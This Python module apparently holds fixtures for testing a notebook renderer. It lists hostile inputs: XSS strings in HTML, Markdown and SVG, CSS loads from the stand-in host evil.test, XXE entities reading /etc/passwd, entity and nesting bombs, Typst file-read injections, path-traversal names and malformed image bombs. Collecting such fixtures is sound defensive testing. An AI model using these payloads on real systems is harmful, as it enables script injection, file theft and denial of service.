"""What an attacker would put into a notebook, by the part of a page that it is aimed at."""

# ruff: noqa: E501 - a payload is one line, as it would be sent

from __future__ import annotations

import base64
import gzip
import struct
import zlib

CANARY = "cAnArY-7f3a"  # stands in files that no notebook may reach
RAN = "RAN-9c41"  # appears only where code was run: the texts below hold its halves apart

Payload = str


def chunk(name: bytes, body: bytes) -> bytes:
    """Return a part of a PNG."""
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(columns: int, lines: int, data: bytes = b"", before: bytes = b"") -> bytes:
    """Return a grey PNG that says it is so large, whatever data it holds."""
    head = struct.pack(">IIBBBBB", columns, lines, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + before
        + chunk(b"IDAT", data)
        + chunk(b"IEND", b"")
    )


def svg(inside: str, before: str = "", attributes: str = "") -> str:
    return (
        f'{before}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"'
        f' xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}><path d="M0 0h9"/>{inside}</svg>'
    )


def _address(text: str | bytes, kind: str) -> str:
    data = text.encode() if isinstance(text, str) else text
    return f"data:{kind};base64,{base64.b64encode(data).decode()}"


SCRIPTS = (
    "<script>window.ran=1</script>",
    "<ScRiPt src=//evil.test/a.js></sCrIpT >",
    "<scr<script></script>ipt>window.ran=1</scr</script>ipt>",
    "<img src=x onerror=window.ran=1>",
    "<img src='x'onerror='window.ran=1'alt=''>",
    "<p onmouseover=window.ran=1 style='animation-name:x' onanimationstart=window.ran=1>p</p>",
    "<details open ontoggle=window.ran=1><summary>s</summary></details>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data='javascript:window.ran=1'></object><embed src=javascript:window.ran=1>",
    "<a href='java&#10;script:window.ran=1'>a</a><a href='&#1;javascript:window.ran=1'>b</a>",
    "<a href=data:text/html,<script>window.ran=1</script> download>a</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.ran=1&gt;'>",
    "<form action=//evil.test><input autofocus onfocus=window.ran=1><button formaction=javascript:1>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'></noscript>",
    "<svg><style><img src='</style><img src=x onerror=window.ran=1>'></svg>",
    "<template><script>window.ran=1</script></template><textarea></textarea><script>window.ran=1</script>",
    "<!--><img src=x onerror=window.ran=1>--><![CDATA[<script>window.ran=1</script>]]><?x <script>?>",
    "<base href=//evil.test><meta http-equiv=refresh content='0;url=//evil.test'><link rel=stylesheet href=//evil.test>",
    "</pre></code></main></body><script>window.ran=1</script>",
    "<b id=main class='skip'>x</b><section class=footnotes><li id=fn-1><script>window.ran=1</script></li></section>",
    "<img src=x:x srcset='//evil.test/a 1x' alt='\"><script>window.ran=1</script>'>",
    "<table background=//evil.test><td background=javascript:window.ran=1>c</table>",
)
MARKDOWN = (
    "[a](javascript:window.ran=1) [b](JaVaScRiPt&colon;window.ran=1) [c](<vbscript:x>)",
    "![a](javascript:window.ran=1 \"x' onerror='window.ran=1\")",
    "[x]: javascript:window.ran=1\n\n[x] ![x] <javascript:window.ran=1>",
    '[a](data:text/html;base64,PHNjcmlwdD4=) <https://e.test/"onmouseover=window.ran=1>',
    "$\\text{</math><script>window.ran=1</script>}$ $$\\href{javascript:window.ran=1}{x}$$",
    "a[^1][^2][^nope]\n\n[^1]: <script>window.ran=1</script>[^1]\n\n[^2]: [^1] [^2]",
    "\ue0100\ue011 \ue010999999999999\ue011 ![\ue0100\ue011 $x$](a 'b $y$')",
    '@exhibit-x @fig:<script> @exhibit-"onx=1 a@exhibit-b [^@exhibit-x]',
    '```"><script>window.ran=1</script>\ncode\n```\n\n~~~#read("canary.txt")\nx\n~~~',
    '| a | b |\n|--|--|\n| <script>window.ran=1</script> | `#read("canary.txt")` |',
)
STYLES = (
    "<p style='background:url(//evil.test/x)'>p</p><style>@import '//evil.test';</style>",
    "<style>#T_1_a{background:url(//evil.test);color:red}</style><p id=T_1_a style='color:expression(window.ran=1)'>p",
    "<style>input[value^=a]{background:url(//evil.test/a)}</style><p style='\\75rl(//evil.test)'>q</p>",
    "<p style='position:fixed;inset:0;z-index:9;width:9999px'>r</p><td style='width:calc(1px*9999)'>",
    "<p style='background-color:#12345\"onx=1;color:rgb(1,2,999999)'>s</p><div style='-moz-binding:url(x)'>",
)
DRAWINGS = (
    svg("<script>window.ran=1</script>"),
    svg("", attributes='onload="window.ran=1"'),
    svg('<image href="http://evil.test/a.png"/><image xlink:href="file:///etc/passwd"/>'),
    svg('<image href="canary.txt"/><image href="../canary.txt"/>'),
    svg("<style>@import 'http://evil.test';*{fill:url(http://evil.test/#a)}</style>"),
    svg('<a xlink:href="javascript:window.ran=1"><text>x</text></a>'),
    svg(
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script/></body></foreignObject>'
    ),
    svg('<animate onbegin="window.ran=1"/><set attributeName="href" to="javascript:1"/>'),
    svg("&a;", '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
    svg(
        "&d;",
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>',
    ),
    svg(
        '<g id="a"><use href="#b"/><use href="#b"/></g><g id="b"><use href="#a"/></g><use href="#a"/>'
    ),
    svg(
        '<path id="u0" d="M0 0"/>'
        + "".join(
            f'<g id="u{n}">{f"<use href=%s#u{n - 1}%s/>" % (chr(34), chr(34)) * 10}</g>'
            for n in range(1, 9)
        )
    ),
    *(
        svg(
            f'<{tag} id="p0"><rect width="9" height="9"/></{tag}>'
            + "".join(f'<{tag} id="p{n}">{part.format(n - 1) * 2}</{tag}>' for n in range(1, 26))
            + part.format(25)
        )
        for tag, part in (
            ("mask", '<rect width="9" height="9" mask="url(#p{})"/>'),
            ("clipPath", '<rect width="9" height="9" style="clip-path:url(#p{})"/>'),
            ("pattern", '<g fill="url(#p{})"><rect width="9" height="9"/></g>'),
            ("marker", '<path d="M0 0h1" marker-end="url(#p{})"/>'),
        )
    ),
    svg(
        "".join(f"<style>.c path{{fill:#00{n:04}}}</style>" for n in range(4_000)) + "<g/>" * 9_000
    ),
    svg("<rect width='900' height='900' filter='blur(900px)'/>" * 9),
    "<!---->" * 900 + "x",
    svg("<g>" * 5_000 + "</g>" * 5_000),
    svg("<path d='M" + "0 0 " * 50_000 + "'/>"),
    svg("<text>\x00\x01</text>"),
    svg("<filter id='f'><feImage href='http://evil.test'/></filter><rect filter='url(#f)'/>"),
    '<?xml-stylesheet href="http://evil.test"?>' + svg(""),
    "<svg><path d='M0 0'><svg><path",
    svg(f"<text>{'x' * 100_000}</text>", attributes='viewBox="0 0 1e308 1e308"'),
)
_MARK = f'#("{RAN[:4]}" + "{RAN[4:]}")'
TYPST = (
    '#read("canary.txt")',
    f'] {_MARK} #read("canary.txt") [',
    f'") {_MARK} #read("/canary.txt") ("',
    '\\") #read("canary.txt") (\\"',
    f"]] )) }} {_MARK} {{ (( [[",
    f"```typ {_MARK} ``` ` {_MARK} ` ```` {_MARK}",
    f'$ {_MARK} $ and $ #read("canary.txt") $',
    f"*/ {_MARK} /* // \n{_MARK}\n= {_MARK} \n- {_MARK}",
    '#import "@preview/cetz:0.3.0": * \n#include "canary.txt" #plugin("x.wasm")',
    '#image("/etc/passwd") #image("../canary.txt") #json("canary.txt") #csv("canary.txt")',
    f'#eval("{_MARK}") #sys.inputs #panic("x") #show: it => {_MARK}',
    f"\\u{{22}} \\{_MARK} \\\\{_MARK} &#35;read(&quot;canary.txt&quot;)",
    f'$\\text{{{_MARK}}} \\operatorname{{#read("canary.txt")}} \\mathrm{{"{_MARK}"}}$',
    "#while true {} #let f() = f() #f()",
    "<label> @ref #metadata(1) #context here() ~ -- --- ' \" #set page(width: 1pt)",
    f'#pdf.attach("canary.txt") #bibliography("canary.txt") {_MARK}',
)
PATHS = (
    *["../canary.txt", "..%2fcanary.txt", "%2e%2e/canary.png", "link.png", "linked/canary.png"],
    *[
        "/etc/passwd",
        "file:///etc/passwd",
        "C:\\windows\\x.png",
        "\\\\evil.test\\x.png",
        "a\x00.png",
    ],
    *["//evil.test/x.png", "http://127.0.0.1:1/x.png", "attachment:../../x", "attachment:", "."],
    *[
        "canary.png/../../canary.png",
        "loop",
        "fifo.png",
        "a" * 5_000 + ".png",
        "\ud800.png",
        "?x#y",
    ],
)
PICTURES = (
    *["", "!", "AAAA", "=", "a" * 100_001, "\ud800", "iVBORw0KGgo="],
    base64.b64encode(png(100_000, 100_000)).decode(),
    base64.b64encode(png(0, 5)).decode(),
    base64.b64encode(png(3_000, 3_000, zlib.compress(bytes(3_001 * 3_000), 9))).decode(),
    base64.b64encode(png(9, 9, b"not deflated")).decode(),
    base64.b64encode(
        png(9, 9, before=chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(10**8))))
    ).decode(),
    base64.b64encode(b"<!---->" * 900).decode(),
    base64.b64encode(png(9, 9, zlib.compress(bytes(5_000_000), 9))).decode(),
    base64.b64encode(b"\xff\xd8\xff\xe0\x00\x00\xff\xc0").decode(),
    base64.b64encode(b"GIF89a\xff\xff\xff\xff").decode(),
    base64.b64encode(b"RIFF\x00\x00\x00\x00WEBPVP8X").decode(),
    base64.b64encode(gzip.compress(svg("<script/>").encode(), mtime=0)).decode(),
    base64.b64encode(b"%PDF-1.7 " + CANARY[:4].encode()).decode(),
)
TEXTS = (
    *[
        "",
        " ",
        "\x00\x01\x1b[31mred\x1b[38;2;1;2;3;4m\x1b]0;t\x07\x9b",
        "\ud800\udfff \ufffe\uffff",
        "\u202eabc\u2066",
    ],
    *[
        "{{ 7*7 }}{% include '/etc/passwd' %}{{ cycler.__init__.__globals__ }}",
        "a" * 60_000,
        "\r\n" * 3_000,
    ],
    *[
        "<" * 2_000,
        "&" * 2_000,
        "&#x110000;&#0;&#xd800;&nbsp",
        "١٢٣ 你好 ก็ 👩‍👩‍👧 שלום",
        "\\" * 501,
        '"' * 501,
    ],
    *["1\r" * 3_000, "é" * 3_000, "Z̷̢̛͔" * 300],
)
GIANTS = (
    "<table>" + "<tr><td>1" * 5_000 + "</table>",
    "<table><tr>" + "<td>1" * 3_000 + "</table>",
    "<table><tr><td colspan=1000 rowspan=1000>a"
    + "<tr><td rowspan=999 colspan=999>b" * 50
    + "</table>",
    "<table><td colspan=-1 rowspan=99999999999999>a<td colspan=x>b</table>",
    "<div>" * 20_000,
    "<table><td>" * 300,
    "<ul><li>" * 400,
    "<b>" * 3_000 + "x",
    "<p>" * 30_000,
    "<a href=#x>" * 4_000,
    "<b class=" + "x " * 50_000 + ">y</b>",
    "<p " + "".join(f"a{n}=1 " for n in range(5_000)) + ">z</p>",
)
DEEP = (
    ">" * 400 + " q",
    "- " * 300 + "x",
    "[" * 3_000,
    "*" * 3_000 + "a",
    "**a " * 1_500,
    "![" * 700 + "x" + "](a)" * 700,
    "`" * 2_001,
    "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "$" + "\\frac{" * 200 + "1" + "}{2}" * 200 + "$",
    "$" + "x_{" * 150 + "}" * 150 + "$ $\\left(" * 40,
    "$\\def\\a{\\a\\a}\\a$ $\\begin{matrix}" + "1&" * 500 + "\\end{matrix}$",
    "| a |\n|--|\n" + "| b |\n" * 3_000,
    "# " * 500 + "\n" + "#" * 6 + " h\n" * 100,
    "1. a\n" * 1_500,
    "\n".join(f"[^{n}]: [^{n + 1}]" for n in range(120)) + "\n\n[^0]",
    "<div>\n\n" * 200 + "x",
)
ODD = (
    None,
    True,
    -1,
    1e308,
    "",
    [],
    {},
    [[]],
    {"a": {"b": [None]}},
    "\ud800",
    ["<script>"],
    {"name": 1},
)
